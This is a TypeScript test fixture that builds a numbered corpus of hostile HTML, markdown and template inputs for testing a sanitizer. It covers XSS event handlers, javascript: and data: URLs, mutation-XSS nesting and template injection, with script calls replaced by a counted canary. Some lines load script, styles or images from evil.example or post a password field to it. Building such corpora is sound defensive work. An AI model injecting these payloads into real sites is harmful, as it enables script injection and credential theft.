/*
 * Texts that try to run a script, to load something, or to change the page around them, by the trick they use. `§` stands
 * for a call of the canary, a function that each page under test counts the calls of; `evil.example` must never be asked.
 * `\u{…}` is the character of that number. One vector a line; none needs more than the 100 characters of a name, but for
 * the last group.
 */
const kept = String.raw`
<script>§</script>
<SCRIPT>§</SCRIPT>
<script/x>§</script>
<scr<script>ipt>§</scr</script>ipt>
<script\u{9}>§</script >
<script src=https://evil.example/a.js></script>
<script src="data:text/javascript,§"></script>
<script type=module>§</script>
<script>§<!--
"><script>§</script>
'><script>§</script>
</textarea><script>§</script>
</title><script>§</script>
</style></noscript></template><script>§</script>
--><script>§</script>
]]><script>§</script>
<noscript><p title="</noscript><script>§</script>">
<iframe srcdoc="<script>§</script>"></iframe>
<img src=x onerror=§>
<img src=x onerror="§" alt="a > b">
<img src="x:gif" onerror=§ //
<img/src/onerror=§>
<img src=x:alert(alt) onerror=eval(src) alt=§>
<image src=x onerror=§>
<img title=">" src=x onerror=§>
<img src=x onerror=&#99;anary(1)>
<<img src=x onerror=§>>
<b onmouseover=§>over</b>
<b onfocus=§ tabindex=0 autofocus>focus</b>
<p onclick=§>click</p>
<a onclick=§ href=#>click</a>
<body onload=§>
<body/onpageshow=§>
<html onmousemove=§>
<input autofocus onfocus=§>
<select autofocus onfocus=§>
<textarea autofocus onfocus=§>
<button autofocus onfocus=§>x</button>
<keygen autofocus onfocus=§>
<video><source onerror=§></video>
<video src=x onerror=§></video>
<audio src=x onerror=§></audio>
<details open ontoggle=§>
<marquee onstart=§>roll</marquee>
<object data=x onerror=§></object>
<p style=animation-name:x onanimationstart=§>p</p>
<p onpointerrawupdate=§ onwheel=§>p</p>
<li onbeforecopy=§>item</li>
<u oncontentvisibilityautostatechange=§ style=content-visibility:auto>
<svg onload=§>
<svg/onload=§>
<svg><script>§</script></svg>
<svg><script href="data:text/javascript,§" /></svg>
<svg><a xlink:href="javascript:§"><text y=20>x</text></a></svg>
<svg><animate onbegin=§ attributeName=x dur=1s>
<svg><set attributeName=href to=javascript:§ /></svg>
<svg><use href="data:image/svg+xml,<svg id=x onload=§></svg>#x"/></svg>
<svg><foreignObject><img src=x onerror=§></foreignObject></svg>
<svg><style><img src=x onerror=§></style></svg>
<math><mi xlink:href="javascript:§">x</mi></math>
<math href="javascript:§">x</math>
<math><mtext><table><mglyph><style><img src=x onerror=§>
<math><annotation-xml encoding="text/html"><img src=x onerror=§>
<a href="javascript:§">a</a>
<a href=" javascript:§">a</a>
<a href="java\u{9}script:§">a</a>
<a href="JaVaScRiPt:§">a</a>
<a href="\u{1}javascript:§">a</a>
<a href="javascript&colon;§">a</a>
<a href="&#106;avascript:§">a</a>
<a href="&#x6A&#x61&#x76&#x61script:§">a</a>
<a href="javascript:%63anary(1)">a</a>
<a href="javascript://https://x.example/%0a§">a</a>
<a href="vbscript:§">a</a>
<a href="data:text/html,<script>§</script>">a</a>
<a href="data:text/html;base64,PHNjcmlwdD5jYW5hcnkoMSk8L3NjcmlwdD4=">a</a>
<a href="blob:https://evil.example/1">a</a>
<a href="//evil.example">a</a>
<a href="https:evil.example">a</a>
<a href="https://x.example@evil.example/">a</a>
<a href="/\evil.example">a</a>
<a href="https://x.example" target=_top ping=https://evil.example>a</a>
<a href="mailto:a@x.example?body=%0d%0aBcc:b@x.example">a</a>
<form action="javascript:§"><button>x</button></form>
<button form=x formaction="javascript:§">x</button>
<isindex type=image src=x onerror=§>
<noscript><p title="</noscript><img src=x onerror=§>">
<p id="</p><img src=x onerror=§>">x
<listing>&lt;img src=x onerror=§&gt;</listing>
<xmp><p title="</xmp><img src=x onerror=§>">
<table><td><b><table><img src=x onerror=§>
<select><template><img src=x onerror=§></template></select>
<template><img src=x onerror=§></template>
<b><p><b><p><style><a title="</style><img src=x onerror=§>">
<svg></p><style><a id="</style><img src=1 onerror=§>">
<form><math><mtext></form><form><mglyph><style></math><img src onerror=§>
<![CDATA[<img src=x onerror=§>]]>
<!--[if gte IE 4]><script>§</script><![endif]-->
<!--><img src=x onerror=§>-->
<?xml version="1.0"?><img src=x onerror=§>
<% §; %><?php §; ?>
{{constructor.constructor('§')()}}
{{$on.constructor('§')()}}
{{7*7}}\u{24}{7*7}#{7*7}<%= 7*7 %>
\u{24}{§}
{{{<img src=x onerror=§>}}}
{{#with "s" as |string|}}{{/with}}
{% raw %}{{ config }}{% endraw %}
[[\u{24}{7*7}]] th:text="\u{24}{§}"
{"type":"script","props":{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=§>"}}}
<p ng-app ng-csp>{{§}}</p>
<p v-html="'<img src=x onerror=§>'">{{ x }}</p>
<p x-data x-init=§>x</p>
<p data-hx-on:load=§ hx-get=https://evil.example>x</p>
<style>*{display:none!important}</style>
<style>@import 'https://evil.example/a.css';</style>
<style>body{background:url(https://evil.example/b.png)}</style>
<p style="background:url(https://evil.example/c.png)">p</p>
<p style="position:fixed;inset:0;z-index:9999;background:red">p</p>
<p style="width:expression(§)">p</p>
<p style="-moz-binding:url(https://evil.example/x.xml#a)">p</p>
<link rel=stylesheet href=https://evil.example/d.css>
<link rel=prefetch href=https://evil.example/e>
<base href=https://evil.example/>
<base target=_top>
<meta http-equiv=refresh content="0;url=https://evil.example/f">
<meta http-equiv=Content-Security-Policy content="script-src *">
<meta charset=utf-7>+ADw-script+AD4-§+ADw-/script+AD4-
<iframe src=https://evil.example/g></iframe>
<iframe src="javascript:§"></iframe>
<embed src="javascript:§">
<object data="data:text/html,<script>§</script>"></object>
<img src=https://evil.example/h.png>
<img srcset="https://evil.example/i.png 1x">
<img src='https://evil.example/j?
<video poster=https://evil.example/k.png></video>
<form action=https://evil.example/l><input name=p type=password>
<portal src=https://evil.example/m></portal>
<input name=attributes><input name=parentNode>
<form id=canary><input name=length></form>
<img name=getElementById><img name=cookie>
<p id=root><p id=app>
<b
<b><i><u><ul><li>
</b></p></div></main></body></html>
<p><p><p></section></form></dialog>
<!--
<!-- a --!> b
<a href="
<a href='https://x.example
<p title='"><b>
&lt;script&gt;§&lt;/script&gt;
&amp;lt;script&amp;gt;§&amp;lt;/script&amp;gt;
&#60;img src=x onerror=§&#62;
&#x3c;svg onload=§&#x3e;
\u{5c}u003cscript\u{5c}u003e§
%3Cscript%3E§%3C/script%3E
%253Cscript%253E§%253C%252Fscript%253E
\u{ff1c}script\u{ff1e}§\u{ff1c}/script\u{ff1e}
\u{2039}script\u{203a}§ \u{3008}b\u{3009}
[a](javascript:§)
[a](https://x.example "onmouseover=§")
![a](x" onerror="§)
<javascript:§>
[a]: javascript:§
\u{60}\u{60}\u{60}html <img src=x onerror=§>\u{60}\u{60}\u{60}
javascript:§
javascript:/*--></title></style></textarea></script><svg onload=§>
';§//
";§//
\u{5c}';§//
</script><svg onload=§>
' onmouseover='§
" autofocus onfocus="§
\u{60}-§-\u{60}
`;

const unescaped = (text: string): string =>
  text.replace(/\\u\{([0-9a-f]+)\}/gi, (_all, code: string) =>
    String.fromCodePoint(Number.parseInt(code, 16)),
  );

/** Longer ones: much of one thing, deep nesting, and several at once. */
const long = [
  `${'<b>'.repeat(300)}<img src=x onerror=§>`,
  `${'<ul><li>'.repeat(120)}<script>§</script>`,
  `<p ${'a=b '.repeat(300)}onclick=§>x</p>`,
  `<a href="${' '.repeat(400)}javascript:§">a</a>`,
  `<img src=x${' '.repeat(500)}onerror=§>`,
  `${'<scr'.repeat(20)}<script>${'ipt>'.repeat(20)}§`,
  '<svg><desc><style><p id="</style></desc></svg><img src=x onerror=§>"><b>bold</b><a href="javascript:§">link</a>',
  '<math><mtext><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=§&gt;"></mglyph></mtext></math>',
  '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=§ src>">',
];

/** The corpus, each with a number of its own in its call of the canary. */
export const hostileVectors: readonly string[] = [
  ...kept
    .split('\n')
    .filter((line) => line !== '')
    .map(unescaped),
  ...long,
].map((text, place) => text.replaceAll('§', `canary(${place})`));
